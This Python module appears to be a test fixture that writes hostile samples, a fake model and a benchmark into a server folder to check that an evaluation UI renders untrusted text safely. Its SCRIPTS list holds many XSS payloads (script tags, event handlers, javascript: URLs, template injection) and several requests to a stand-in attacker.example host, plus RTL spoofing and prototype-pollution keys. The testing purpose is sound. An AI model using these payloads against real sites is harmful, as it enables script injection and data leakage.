"""Texts that try to be more than text, and models and samples that are made of them."""

from __future__ import annotations

import json
from pathlib import Path

SCRIPTS = (
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<img src=http://attacker.example/{n}.png>",
    "![x](http://attacker.example/{n}.png)",
    "[click](javascript:window.hit=1)",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<body onload=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<math><mtext></p><style><img src onerror=window.hit=1></style></math>",
    "<link rel=stylesheet href=http://attacker.example/{n}.css>",
    "<style>@import 'http://attacker.example/{n}.css';</style>",
    "<object data=http://attacker.example/{n}></object>",
    "<form action=http://attacker.example/{n}><button autofocus>x</button></form>",
    "<base href=http://attacker.example/>",
    "<meta http-equiv=refresh content='0;url=http://attacker.example/{n}'>",
    "{{constructor.constructor('window.hit=1')()}}",
    "${{window.hit=1}}",
    "javascript:window.hit=1",
    "'-window.hit=1-'",
    '"><script>window.hit=1</script>',
    "</textarea><script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "<a href='data:text/html,<script>window.hit=1</script>'>x</a>",
    "=HYPERLINK(\"http://attacker.example/{n}\")",
    "\u202egnp.exe\u202c <b>right to left</b>",
    "\x1b[31mred\x1b[0m \x07",
    "__proto__",
    "constructor",
    "<!--<img src='--><img src=x onerror=window.hit=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<template><script>window.hit=1</script></template>",
    "<marquee onstart=window.hit=1>x</marquee>",
    "<x onclick=window.hit=1 style='position:fixed;inset:0'>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
)  # fmt: skip
WRAPPINGS = ("{}", "a {} b", "```html\n{}\n```", "> {}", "| {} |\n|---|", )  # fmt: skip
PAYLOADS = tuple(
    wrapping.replace("{}", script.replace("{n}", str(number)))
    for number, (wrapping, script) in enumerate((w, s) for w in WRAPPINGS for s in SCRIPTS)
)
"""Two hundred."""

MODEL = """\
import json, time
from pathlib import Path

# A plan takes along the file of a model and nothing beside it.
PAYLOADS = json.loads(@payloads@)
RELEASE = Path(@release@)


def answer(text: str) -> str:
    return PAYLOADS[int(text.split()[1])]


def other(text: str) -> str:
    number = int(text.split()[1])
    return f"target {number}" if number % 2 else PAYLOADS[-number]


asked = 0


def slow(text: str) -> str:
    # The first answers come at once, the others when somebody says so, or after a while.
    global asked
    asked += 1
    until = time.monotonic() + (1 if asked > 30 else 0)
    while time.monotonic() < until and not RELEASE.exists():
        time.sleep(0.02)
    return "ANSWER: 7"
"""
BENCHMARK = """\
name: hostile
version: "1"
dataset: {source: hostile.jsonl, fields: {id: id, input: input, target: target, category: category}}
prompt: {user: "{{ input }}"}
scorers: [exact]
metrics: [accuracy]
"""


def write_hostile(folder: Path) -> None:
    """Models, samples and a benchmark in the folder of a server."""
    model = MODEL.replace("@payloads@", repr(json.dumps(PAYLOADS))).replace("@release@", repr(str(folder / "release")))
    (folder / "hostile.py").write_text(model)
    (folder / "hostile.yaml").write_text(BENCHMARK)
    samples = [
        {
            "id": f"{number} {payload}",
            "input": f"sample {number} {payload}",
            "target": f"target {number}",
            "category": PAYLOADS[number % 7],
        }
        for number, payload in enumerate(PAYLOADS)
    ]
    (folder / "hostile.jsonl").write_text("".join(json.dumps(sample) + "\n" for sample in samples))
